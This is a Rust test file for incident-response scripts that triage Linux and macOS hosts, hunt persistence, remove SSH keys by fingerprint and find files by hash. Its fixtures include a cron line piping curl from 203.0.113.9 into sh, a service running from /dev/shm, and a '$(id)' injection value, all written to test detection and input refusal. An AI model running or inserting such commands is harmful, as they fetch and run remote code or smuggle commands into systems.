//! The scripts, run for real against a folder that plays a device's root.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;

use sha2::{Digest, Sha256};

/// The folder of the scripts.
fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("playbooks/scripts")
}

/// All scripts with this ending.
fn scripts(ending: &str) -> Vec<PathBuf> {
    let mut found: Vec<PathBuf> = fs::read_dir(folder())
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| {
            path.extension()
                .is_some_and(|extension| extension == ending)
        })
        .collect();
    found.sort();
    assert!(!found.is_empty());
    found
}

/// A root of a device, with what a test puts there.
struct Root(tempfile::TempDir);

/// What a script said.
#[derive(Debug)]
struct Said {
    code: Option<i32>,
    stdout: String,
    stderr: String,
}

impl Root {
    fn new() -> Self {
        Root(tempfile::tempdir().unwrap())
    }

    fn file(self, path: &str, text: impl AsRef<[u8]>) -> Self {
        let path = self.path(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
        self
    }

    fn path(&self, path: &str) -> PathBuf {
        self.0.path().join(path.trim_start_matches('/'))
    }

    fn read(&self, path: &str) -> String {
        fs::read_to_string(self.path(path)).unwrap()
    }

    fn run(&self, script: &str, arguments: &[&str]) -> Said {
        let output = Command::new("bash")
            .arg(folder().join(script))
            .args(arguments)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap())
            .env("SVAR_DEVICE_ROOT", self.0.path())
            .output()
            .unwrap();
        Said {
            code: output.status.code(),
            stdout: String::from_utf8(output.stdout).unwrap(),
            stderr: String::from_utf8(output.stderr).unwrap(),
        }
    }

    /// Unpacks an archive the script made, and gives the folder its files are in.
    fn unpacked(&self, archive: &str) -> PathBuf {
        let to = self.path("unpacked");
        fs::create_dir_all(&to).unwrap();
        let status = Command::new("tar")
            .arg("-xzf")
            .arg(self.path(archive))
            .arg("-C")
            .arg(&to)
            .status()
            .unwrap();
        assert!(status.success());
        to
    }
}

impl Said {
    #[track_caller]
    fn ok(self) -> Self {
        assert_eq!(self.code, Some(0), "{self:?}");
        self
    }

    #[track_caller]
    fn json(&self) -> serde_json::Value {
        let last = self.stdout.lines().last().unwrap_or_default();
        serde_json::from_str(last).unwrap_or_else(|error| panic!("{error}: {self:?}"))
    }
}

fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect()
}

/// A device as small as one can be that every collector finds something on.
fn server() -> Root {
    Root::new()
        .file("/etc/hostname", "web-01\n")
        .file(
            "/etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\neva:x:1000:1000::/home/eva:/bin/bash\n",
        )
        .file("/etc/shadow", "root:!:1::::::\neva:$6$salt$thehashitself:1::::::\n")
        .file("/etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n")
        .file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1 ops@jump\n")
        .file("/var/log/auth.log", (1..=300).map(|n| format!("line {n}\n")).collect::<String>())
        .file("/proc/1/status", "Name:\tinit\nPPid:\t0\nUid:\t0\t0\t0\t0\n")
        .file("/proc/1/cmdline", "/sbin/init\0splash\0")
        .file(
            "/proc/net/tcp",
            "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   \
             0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 4242 1\n",
        )
}

#[test]
fn every_shell_script_is_sound_bash() {
    for script in scripts("sh") {
        let output = Command::new("bash")
            .arg("-n")
            .arg(&script)
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "{}: {said}", script.display());
        let text = fs::read_to_string(&script).unwrap();
        assert!(
            text.contains("\nset -euo pipefail\n"),
            "{}",
            script.display()
        );
    }
}

#[test]
fn every_powershell_script_keeps_to_what_windows_powershell_reads() {
    for script in scripts("ps1") {
        let text = fs::read_to_string(&script).unwrap();
        let name = script.display();
        // Without a byte order mark Windows PowerShell reads a file in the system's code page.
        assert!(text.is_ascii(), "{name} is not plain ASCII");
        assert!(
            text.starts_with("<#\n.SYNOPSIS\n"),
            "{name} does not say what it is"
        );
        for line in [
            "\nparam(\n",
            "\nSet-StrictMode -Version 2.0\n",
            "\n$ErrorActionPreference = 'Stop'\n",
        ] {
            assert!(text.contains(line), "{name} lacks {line:?}");
        }
        // Both are newer than 5.1.
        for operator in [" ?? ", " && "] {
            assert!(!text.contains(operator), "{name} uses {operator:?}");
        }
    }
}

#[test]
fn triage_packs_the_facts_and_their_hashes() {
    let root = server();

    let said = root.run("triage-linux.sh", &["--log-lines", "20"]).ok();

    let archive = fs::read(root.path("/var/lib/svar-triage/triage.tar.gz")).unwrap();
    let line = said.stdout.lines().last().unwrap();
    let expected = format!(
        "TRIAGE-COMPLETE bytes={} sha256={}",
        archive.len(),
        sha256(&archive)
    );
    assert_eq!(line, expected);

    let facts = root
        .unpacked("/var/lib/svar-triage/triage.tar.gz")
        .join("facts");
    let read = |name: &str| fs::read_to_string(facts.join(name)).unwrap();
    assert!(read("host.tsv").contains("name\tweb-01"));
    assert!(read("processes.tsv").contains("1\t0\t0\tinit\t\t/sbin/init splash"));
    assert!(read("sockets.tsv").contains("tcp\t127.0.0.1\t8080\t1000\t"));
    assert!(read("accounts.tsv").contains("eva\t1000\t1000\t/home/eva\t/bin/bash\tset"));
    assert!(read("authorized-keys.tsv").contains("/root/.ssh/authorized_keys\t1\tssh-ed25519"));
    assert!(read("jobs/etc/crontab").contains("run-parts"));
    assert_eq!(read("logs/auth.log").lines().next(), Some("line 281"));
    for row in read("manifest.tsv").lines().skip(1) {
        let [sum, bytes, name] = row.split('\t').collect::<Vec<_>>()[..] else {
            panic!("{row}");
        };
        let content = fs::read(facts.join(name)).unwrap();
        assert_eq!(
            (sum, bytes),
            (
                sha256(&content).as_str(),
                content.len().to_string().as_str()
            )
        );
    }
}

#[test]
fn triage_leaves_password_hashes_where_they_are() {
    let root = server();

    root.run("triage-linux.sh", &[]).ok();

    let facts = root.unpacked("/var/lib/svar-triage/triage.tar.gz");
    let found = Command::new("grep")
        .arg("-r")
        .arg("thehashitself")
        .arg(&facts)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&found.stdout), "");
}

#[test]
fn triage_does_not_follow_a_users_link_to_a_file_of_roots() {
    let root = server();
    fs::create_dir_all(root.path("/home/eva/.ssh")).unwrap();
    symlink(
        root.path("/etc/shadow"),
        root.path("/home/eva/.ssh/authorized_keys"),
    )
    .unwrap();

    root.run("triage-linux.sh", &[]).ok();

    let facts = root
        .unpacked("/var/lib/svar-triage/triage.tar.gz")
        .join("facts");
    let notes = fs::read_to_string(facts.join("notes.tsv")).unwrap();
    assert_eq!(
        notes,
        "/home/eva/.ssh/authorized_keys\tis a symbolic link\n"
    );
    let keys = fs::read_to_string(facts.join("authorized-keys.tsv")).unwrap();
    assert!(!keys.contains("thehashitself"));
}

#[test]
fn triage_removes_its_folder_and_nothing_else() {
    for (script, place) in [
        ("triage-linux.sh", "/var/lib/svar-triage"),
        ("triage-macos.sh", "/private/var/svar-triage"),
    ] {
        let root = server();
        root.run(script, &[]).ok();
        assert!(root.path(place).join("triage.tar.gz").exists());

        let said = root.run(script, &["--remove"]).ok();

        assert_eq!(said.stdout, "TRIAGE-REMOVED\n");
        assert!(!root.path(place).exists());
        assert!(root.path("/etc/passwd").exists());
        // A second time, and on a device where it never ran, there is nothing to do.
        root.run(script, &["--remove"]).ok();
    }
}

#[test]
fn no_script_works_through_a_link_in_its_folders_place() {
    for (script, arguments, place) in [
        ("triage-linux.sh", &["--remove"][..], "/var/lib/svar-triage"),
        ("triage-linux.sh", &[], "/var/lib/svar-triage"),
        ("triage-macos.sh", &[], "/private/var/svar-triage"),
        (
            "hunt-persistence-linux.sh",
            &[],
            "/var/lib/svar-persistence",
        ),
        (
            "authorized-key.sh",
            &["--discard-copies"],
            "/var/lib/svar-authorized-key",
        ),
    ] {
        let root = server().file("/srv/precious/file", "kept");
        let link = root.path(place);
        fs::create_dir_all(link.parent().unwrap()).unwrap();
        symlink(root.path("/srv/precious"), &link).unwrap();

        let said = root.run(script, arguments);

        assert_eq!(said.code, Some(1), "{script} {arguments:?}: {said:?}");
        assert!(said.stderr.contains("is a symbolic link"), "{said:?}");
        assert_eq!(root.read("/srv/precious/file"), "kept");
        assert_eq!(fs::read_dir(root.path("/srv/precious")).unwrap().count(), 1);
    }
}

#[test]
fn triage_of_a_mac_takes_what_launchd_starts() {
    let root = Root::new()
        .file(
            "/System/Library/CoreServices/SystemVersion.plist",
            "<dict>\n\t<key>ProductVersion</key>\n\t<string>15.6</string>\n</dict>\n",
        )
        .file(
            "/Library/LaunchDaemons/com.example.agent.plist",
            "<plist/>\n",
        )
        .file(
            "/Users/eva/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3 eva@mac\n",
        );

    let said = root.run("triage-macos.sh", &[]).ok();

    assert!(said.stdout.starts_with("TRIAGE-COMPLETE "), "{said:?}");
    let facts = root
        .unpacked("/private/var/svar-triage/triage.tar.gz")
        .join("facts");
    let read = |name: &str| fs::read_to_string(facts.join(name)).unwrap();
    assert!(read("host.tsv").contains("ProductVersion\t15.6"));
    assert_eq!(
        read("persistence/Library/LaunchDaemons/com.example.agent.plist"),
        "<plist/>\n"
    );
    assert!(read("authorized-keys.tsv").contains("/Users/eva/.ssh/authorized_keys\tssh-ed25519"));
    // What only a live device can tell is said to be missing.
    assert!(read("notes.tsv").contains("ps\tnot asked"));
}

/// A key with the fingerprint that `ssh-keygen -lf` prints for it.
const KEY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAINHeEpvOD4xkN/YEWIIfpIbdfX5OAJ5NEVI8D7qc40qH";

fn fingerprint(key: &str) -> String {
    use base64::Engine as _;
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(key)
        .unwrap();
    let sum = Sha256::digest(bytes);
    format!(
        "SHA256:{}",
        base64::engine::general_purpose::STANDARD_NO_PAD.encode(sum)
    )
}

#[test]
fn one_key_is_removed_wherever_it_is_and_no_other() {
    let other = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJrT ops@jump";
    // Options may quote something that looks like a key.
    let decoy =
        format!("command=\"echo ssh-rsa {KEY}\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJrT x");
    let root = server()
        .file(
            "/root/.ssh/authorized_keys",
            format!("# team\n{other}\nssh-ed25519 {KEY} evil\n"),
        )
        .file(
            "/home/eva/.ssh/authorized_keys",
            format!("from=\"10.0.0.0/8\",command=\"a \\\" b\" ssh-ed25519 {KEY}\n{decoy}"),
        );
    let eva = root.path("/home/eva/.ssh/authorized_keys");
    fs::set_permissions(&eva, fs::Permissions::from_mode(0o640)).unwrap();
    let key = fingerprint(KEY);
    let arguments = ["--fingerprint", key.as_str()];

    let look = root.run("authorized-key.sh", &arguments).ok().json();
    assert_eq!(
        look,
        serde_json::json!({"action": "find", "matches": 2, "files": 2})
    );

    let remove = root
        .run(
            "authorized-key.sh",
            &[&arguments[..], &["--remove"]].concat(),
        )
        .ok()
        .json();
    assert_eq!(
        remove,
        serde_json::json!({"action": "remove", "matches": 2, "files": 2})
    );
    assert_eq!(
        root.read("/root/.ssh/authorized_keys"),
        format!("# team\n{other}\n")
    );
    assert_eq!(
        root.read("/home/eva/.ssh/authorized_keys"),
        format!("{decoy}\n")
    );
    assert_eq!(
        fs::metadata(&eva).unwrap().permissions().mode() & 0o777,
        0o640
    );

    let again = root.run("authorized-key.sh", &arguments).ok().json();
    assert_eq!(again["matches"], 0);

    // The files as they were are kept until they are thrown away by name.
    let before = root.unpacked("/var/lib/svar-authorized-key/before.tar.gz");
    let kept = fs::read_to_string(before.join("root/.ssh/authorized_keys")).unwrap();
    assert!(kept.contains(KEY));
    root.run("authorized-key.sh", &["--discard-copies"]).ok();
    assert!(!root.path("/var/lib/svar-authorized-key").exists());
}

#[test]
fn a_fingerprint_of_another_form_is_refused() {
    for wrong in [
        "",
        "MD5:00:11",
        "SHA256:short",
        "SHA256:$(id)aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    ] {
        let said = server().run("authorized-key.sh", &["--fingerprint", wrong]);
        assert_eq!(said.code, Some(1), "{said:?}");
        assert!(said.stderr.starts_with("AUTHORIZED-KEY-FAILED"), "{said:?}");
    }
}

fn token(value: &serde_json::Value) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(value.to_string())
}

#[test]
fn files_are_found_by_hash_under_any_name() {
    let awkward = "/tmp/a \"b\"\n$c.bin";
    let root = server()
        .file(awkward, "evil")
        .file("/tmp/good", "good")
        .file("/srv/evil", "evil");
    let hash = sha256(b"evil");

    let wanted = serde_json::json!({"hashes": [hash.to_uppercase()], "folders": ["/tmp", "/nowhere"], "max_mib": 1});
    let found = root.run("find-by-hash.sh", &[&token(&wanted)]).ok().json();

    assert_eq!(
        found,
        serde_json::json!({
            "files_read": 2,
            "matched": 1,
            "matches": [{"path": "/tmp/a \"b\"?$c.bin", "sha256": hash}]
        })
    );
}

#[test]
fn a_search_without_hashes_or_outside_the_root_is_refused() {
    let hash = sha256(b"evil");
    for wrong in [
        serde_json::json!({"hashes": [], "folders": ["/tmp"], "max_mib": 1}),
        serde_json::json!({"hashes": [hash], "folders": [], "max_mib": 1}),
        serde_json::json!({"hashes": [hash], "folders": ["/tmp"]}),
        serde_json::json!({"hashes": [hash], "folders": ["/tmp/../../etc"], "max_mib": 1}),
        serde_json::json!({"hashes": [hash], "folders": ["/tmp/a\"b"], "max_mib": 1}),
    ] {
        let said = server().run("find-by-hash.sh", &[&token(&wrong)]);
        assert_eq!(said.code, Some(1), "{wrong}: {said:?}");
    }
    let said = server().run("find-by-hash.sh", &["no token!"]);
    assert_eq!(said.code, Some(1), "{said:?}");
}

#[test]
fn persistence_is_listed_whole_and_marked_where_it_is_seldom_honest() {
    let root = server()
        .file(
            "/etc/cron.d/update",
            "* * * * * root curl -s http://203.0.113.9/x | sh\n# a comment\n",
        )
        .file(
            "/etc/systemd/system/web.service",
            "[Service]\nExecStart=/usr/sbin/nginx\n",
        )
        .file(
            "/etc/systemd/system/dbus-d.service",
            "[Service]\nExecStart=/dev/shm/.x/d\n",
        );

    let found = root.run("hunt-persistence-linux.sh", &[]).ok().json();

    assert_eq!(
        (&found["entries"], &found["marked"]),
        (&4.into(), &2.into())
    );
    let list = root.read("/var/lib/svar-persistence/persistence.tsv");
    let marks: Vec<&str> = list
        .lines()
        .skip(1)
        .map(|row| row.split('\t').next().unwrap())
        .collect();
    assert_eq!(marks, ["world-writable-folder", "-", "-", "piped-to-shell"]);
    root.run("hunt-persistence-linux.sh", &["--remove"]).ok();
    assert!(!root.path("/var/lib/svar-persistence").exists());
}

#[test]
fn an_argument_nobody_knows_is_refused() {
    for script in [
        "triage-linux.sh",
        "triage-macos.sh",
        "hunt-persistence-linux.sh",
        "authorized-key.sh",
    ] {
        let said = server().run(script, &["--everything"]);
        assert_eq!(said.code, Some(1), "{script}: {said:?}");
        assert!(
            said.stderr.contains("unknown argument"),
            "{script}: {said:?}"
        );
    }
}
